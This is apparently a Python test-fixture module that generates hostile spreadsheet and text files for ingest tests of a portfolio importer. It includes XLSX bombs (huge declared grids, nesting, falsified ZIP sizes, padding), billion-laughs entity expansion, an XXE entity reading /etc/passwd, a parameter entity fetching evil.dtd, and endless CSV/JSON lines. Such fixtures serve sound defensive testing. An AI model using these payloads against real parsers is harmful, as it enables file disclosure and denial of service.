"""Hostile portfolio files, made at test time for the bad-input corpus and the ingest tests: XLSX bombs of every
kind (a declared grid, a far-away cell, shared strings, nesting, many sheets, entity expansion, lying sizes) and
CSV or JSON lines that never end. Each is small to store; what it would cost a naive reader is in its name."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

HEADER = ("Cuenta", "Cedula", "Nombre", "Saldo", "Mora")
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i + 1} "{("&lol" + (str(i) if i else "") + ";") * 10}">' for i in range(9))
          + "]>")
EXTERNAL = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>'


def _row(number: int, values: list[str | int], first_column: int = 0) -> str:
    cells = []
    for i, value in enumerate(values):
        ref = f"{column_letters(first_column + i)}{number}"
        if isinstance(value, int):
            cells.append(f'<c r="{ref}"><v>{value}</v></c>')
        else:
            cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>')
    return f'<row r="{number}">{"".join(cells)}</row>'


def column_letters(index: int) -> str:
    """A for 0, XFD for 16383."""
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


GOOD_ROWS = _row(1, list(HEADER)) + _row(2, ["A-1", "101", "Ana", 150000, 30])


def sheet_xml(rows: str = GOOD_ROWS, *, before: str = "", prolog: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{MAIN}">{before}'
            f"<sheetData>{rows}</sheetData></worksheet>")


def workbook(sheets: list[str] | None = None, *, strings: str | None = None, names: list[str] | None = None,
             book_prolog: str = "", book_inside: str = "", extra_parts: int = 0) -> bytes:
    """A workbook from its raw parts: `sheets` are the sheets' XML (one good sheet if None); `names` may list
    more sheets than there are parts (a workbook's index is only a list)."""
    sheets = sheets if sheets is not None else [sheet_xml()]
    names = names if names is not None else [f"Hoja{i + 1}" for i in range(len(sheets))]
    listed = "".join(f'<sheet name="{name}" sheetId="{i + 1}" r:id="rId{min(i, len(sheets) - 1) + 1}"/>'
                     for i, name in enumerate(names))
    rels = "".join(f'<Relationship Id="rId{i + 1}" Type="{RELS}/worksheet" Target="worksheets/sheet{i + 1}.xml"/>'
                   for i in range(len(sheets)))
    if strings is not None:
        rels += f'<Relationship Id="rIdS" Type="{RELS}/sharedStrings" Target="sharedStrings.xml"/>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.'
                                                'org/package/2006/content-types"/>')
        archive.writestr("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE_RELS}">'
                                        f'<Relationship Id="rId1" Type="{RELS}/officeDocument" '
                                        'Target="xl/workbook.xml"/></Relationships>')
        archive.writestr("xl/workbook.xml", f'<?xml version="1.0"?>{book_prolog}<workbook xmlns="{MAIN}" '
                                            f'xmlns:r="{RELS}">{book_inside}<sheets>{listed}</sheets></workbook>')
        archive.writestr("xl/_rels/workbook.xml.rels",
                         f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE_RELS}">{rels}</Relationships>')
        for i, sheet in enumerate(sheets):
            archive.writestr(f"xl/worksheets/sheet{i + 1}.xml", sheet)
        if strings is not None:
            archive.writestr("xl/sharedStrings.xml", strings)
        for i in range(extra_parts):
            archive.writestr(f"xl/media/part{i}.bin", b"")
    return buffer.getvalue()


# --- XLSX bombs ------------------------------------------------------------------------------------------------

def xlsx_dimension_bomb(ref: str) -> bytes:
    """A few bytes that declare a grid of `ref` (A1:XFD1048576 is 17 billion cells)."""
    return workbook([sheet_xml(before=f'<dimension ref="{ref}"/>')])


def xlsx_far_cell(ref: str) -> bytes:
    """A good sheet, and one more cell far away (a reader that builds the grid allocates up to it)."""
    digits = next(i for i, c in enumerate(ref) if c.isdigit())
    letters, number = ref[:digits], ref[digits:]
    far = f'<row r="{number}"><c r="{letters}{number}"><v>1</v></c></row>' if number.isdigit() else ""
    return workbook([sheet_xml(GOOD_ROWS + far)])


def xlsx_declared_strings(count: int) -> bytes:
    """A shared-strings table that declares `count` strings (and holds one)."""
    strings = f'<?xml version="1.0"?><sst xmlns="{MAIN}" count="{count}" uniqueCount="{count}"><si><t>x</t></si></sst>'
    return workbook([sheet_xml(GOOD_ROWS + '<row r="3"><c r="A3" t="s"><v>0</v></c></row>')], strings=strings)


def xlsx_long_string(chars: int, shared: bool) -> bytes:
    """One string of `chars` characters (Excel holds at most 32,767 in a cell), shared or inline."""
    if shared:
        strings = f'<?xml version="1.0"?><sst xmlns="{MAIN}"><si><t>{"x" * chars}</t></si></sst>'
        return workbook([sheet_xml(GOOD_ROWS + '<row r="3"><c r="A3" t="s"><v>0</v></c></row>')], strings=strings)
    return workbook([sheet_xml(GOOD_ROWS + _row(3, ["x" * chars]))])


def xlsx_nested(depth: int, part: str) -> bytes:
    """Elements nested `depth` deep inside the sheet, the shared strings or the workbook's index."""
    nest = "<x>" * depth + "</x>" * depth
    if part == "sheet":
        return workbook([sheet_xml(GOOD_ROWS + f'<row r="3"><c r="A3" t="inlineStr"><is>{nest}</is></c></row>')])
    if part == "strings":
        return workbook(strings=f'<?xml version="1.0"?><sst xmlns="{MAIN}"><si>{nest}</si></sst>')
    return workbook(book_inside=nest)


def xlsx_many_sheets(count: int, with_parts: bool) -> bytes:
    """`count` sheets: each with its own part, or only listed in the workbook's index."""
    if with_parts:
        return workbook([sheet_xml() for _ in range(count)])
    return workbook(names=[f"H{i}" for i in range(count)])


def xlsx_entities(part: str, kind: str) -> bytes:
    """A DTD in a part: the billion laughs, an external entity (XXE) or a parameter entity fetched from afar."""
    prolog = {"laughs": LAUGHS, "external": EXTERNAL, "parameter": PARAMETER}[kind]
    use = "&lol9;" if kind == "laughs" else "&secret;" if kind == "external" else "x"
    if part == "sheet":
        return workbook([sheet_xml(GOOD_ROWS + _row(3, [use]), prolog=prolog)])
    if part == "strings":
        return workbook(strings=f'<?xml version="1.0"?>{prolog}<sst xmlns="{MAIN}"><si><t>{use}</t></si></sst>')
    return workbook(book_prolog=prolog)


def xlsx_lying_sizes() -> bytes:
    """A good workbook whose central directory says each part expands to 4 GiB (they hold a few hundred bytes)."""
    data = bytearray(workbook())
    at = data.find(b"PK\x01\x02")
    while at != -1:  # each central directory entry: its uncompressed size is at offset 24
        data[at + 24:at + 28] = struct.pack("<I", 0xFFFFFFF0)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def xlsx_long_tag(megabytes: int) -> bytes:
    """An attribute of `megabytes` MiB: the XML parser holds a whole tag until it ends."""
    return workbook([sheet_xml(GOOD_ROWS + f'<row r="3" spans="{"1" * megabytes * 1024 * 1024}"/>')])


def xlsx_padded(megabytes: int) -> bytes:
    """A valid sheet padded with `megabytes` MiB of spaces (compresses about 1000x)."""
    return workbook([sheet_xml(GOOD_ROWS + " " * megabytes * 1024 * 1024)])


def xlsx_many_parts(count: int) -> bytes:
    return workbook(extra_parts=count)


def xlsx_money(value: str) -> bytes:
    """A one-account sheet whose balance cell holds `value` as written in the XML."""
    rows = _row(1, list(HEADER)) + ('<row r="2"><c r="A2" t="inlineStr"><is><t>A-1</t></is></c>'
                                    '<c r="B2" t="inlineStr"><is><t>101</t></is></c>'
                                    '<c r="C2" t="inlineStr"><is><t>Ana</t></is></c>'
                                    f'<c r="D2"><v>{value}</v></c><c r="E2"><v>30</v></c></row>')
    return workbook([sheet_xml(rows)])


# --- lines that never end -----------------------------------------------------------------------------------------

CSV_HEADER = "Cuenta;Cedula;Nombre;Saldo;Mora\n"


def csv_long_line(megabytes: int, rows_before: int = 1) -> bytes:
    """One data line of `megabytes` MiB after `rows_before` good rows."""
    good = "".join(f"A-{i};{100 + i};Ana;1.000;5\n" for i in range(rows_before))
    return (CSV_HEADER + good + "A-X;1;" + "x" * megabytes * 1024 * 1024 + ";1.000;5\n").encode()


def csv_long_field(megabytes: int) -> bytes:
    """A quoted field of `megabytes` MiB made of short lines: no physical line is long, the record is."""
    return (CSV_HEADER + 'A-1;1;"' + "xxxxxxxxxxxxxxx\n" * (megabytes * 65536) + '";1.000;5\n').encode()


def csv_unclosed_quote(megabytes: int) -> bytes:
    """A quote opened on the first data row and never closed, then `megabytes` MiB of good-looking rows."""
    return (CSV_HEADER + 'A-1;1;"Ana;1.000;5\n' + "A-2;2;Luis;2.000;6\n" * (megabytes * 52429)).encode()


def csv_many_fields(count: int) -> bytes:
    return (CSV_HEADER + "A-1;1;Ana;1.000;5" + ";1" * count + "\n").encode()


def jsonl_long_line(megabytes: int) -> bytes:
    first = '{"account_ref": "J-1", "debtor_id": "1", "full_name": "Ana", "balance": 10, "days_past_due": 3}\n'
    return (first + '{"account_ref": "J-2", "full_name": "' + "x" * megabytes * 1024 * 1024 + '"}\n').encode()


HOSTILE_FILES: dict[str, Callable[..., bytes]] = {
    f.__name__: f for f in (
        xlsx_dimension_bomb, xlsx_far_cell, xlsx_declared_strings, xlsx_long_string, xlsx_nested, xlsx_many_sheets,
        xlsx_entities, xlsx_lying_sizes, xlsx_long_tag, xlsx_padded, xlsx_many_parts, xlsx_money, csv_long_line,
        csv_long_field, csv_unclosed_quote, csv_many_fields, jsonl_long_line)}
